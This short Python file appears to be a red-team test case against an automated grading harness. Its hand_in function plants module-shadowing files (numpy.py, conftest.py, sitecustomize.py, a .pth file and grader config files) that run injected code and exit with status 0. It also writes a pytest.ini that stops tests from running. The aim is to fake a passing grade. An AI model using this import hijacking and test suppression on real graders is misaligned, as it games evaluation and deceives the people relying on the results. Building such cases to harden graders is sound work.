# /// attack
# group = "B"
# number = 21
# lesson = "02_one_step"
# outcome = "="
# tries = "hands in modules and settings that a grader might load"
# made = true
# ///
EVIL = "import os, sys; os.environ['RED_TEAM'] = '1'; open('/tmp/red-team-was-here', 'w'); os._exit(0)"


def hand_in(folder, notebook):
    import json

    for place in (folder, folder.parent):
        for name in ("numpy.py", "timeit.py", "conftest.py", "sitecustomize.py", "usercustomize.py", "pytest.py"):
            (place / name).write_text(EVIL)
        (place / "pytest.ini").write_text("[pytest]\naddopts = --collect-only\n")
        (place / "nbgrader_config.py").write_text(EVIL)
        (place / "course_config.py").write_text(EVIL)
        (place / "evil.pth").write_text(EVIL)
    (folder / f"{folder.name}.ipynb").write_text(json.dumps(notebook))
